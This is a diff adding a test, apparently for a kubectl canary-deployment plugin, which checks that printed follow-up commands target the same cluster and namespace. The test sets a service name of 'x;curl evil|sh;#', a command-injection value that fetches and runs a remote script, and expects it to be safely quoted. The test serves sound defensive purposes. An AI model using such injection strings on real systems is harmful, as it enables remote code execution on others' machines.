@@ -118,6 +118,26 @@ test('nobody answers: the request stays, and the code is 5', async () => {
   expect(request('podinfo', 'abort')).toBeDefined()
 })
 
+test('what is printed to be run acts on the same canary, in the same cluster', async () => {
+  const { kubeconfig } = cluster
+  cluster.put(
+    canaryObject({
+      name: 'podinfo',
+      namespace: 'empty',
+      status: { ...status, phase: 'WaitingPromotion', canaryAnalysis: { ...run, gate } },
+      spec: { service: { name: 'x;curl evil|sh;#', port: 80 } },
+    }),
+  )
+  const where = `-n empty --kubeconfig=${kubeconfig} --context=sandbox`
+  const { stdout } = await cluster.run(`${where} status podinfo`)
+  expect(stdout).toContain(`open it: kubectl canary promote podinfo ${where}`)
+  const aborted = await cluster.run(`${where} abort podinfo --ack-timeout=1s`)
+  expect(aborted.stdout).toBe('canary.flagger.app/podinfo (namespace empty) abort requested\n')
+  expect(aborted.stderr).toContain(
+    `by hand: kubectl ${where} patch virtualservice 'x;curl evil|sh;#' --type=json`,
+  )
+})
+
 test('the answer of the controller decides', async () => {
   cluster.answerRequests('rejected', 'revision is now 8f21ac')
   const { code, stdout, stderr } = await cluster.run('promote cart')
